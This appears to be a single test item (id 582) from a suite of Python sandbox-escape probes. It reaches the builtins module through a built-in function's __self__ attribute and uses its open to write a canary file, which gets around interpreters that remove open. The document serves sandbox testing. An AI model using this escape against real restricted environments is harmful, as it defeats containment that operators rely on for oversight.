# id: 582
# name: bound_method_self
# category: interpreter
# technique: builtin methods' __self__: the module behind a C function
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
import math, random
m = print.__self__ if hasattr(print, '__self__') else math.floor.__self__
m.open(CANARY_FILE, 'w').write('x')
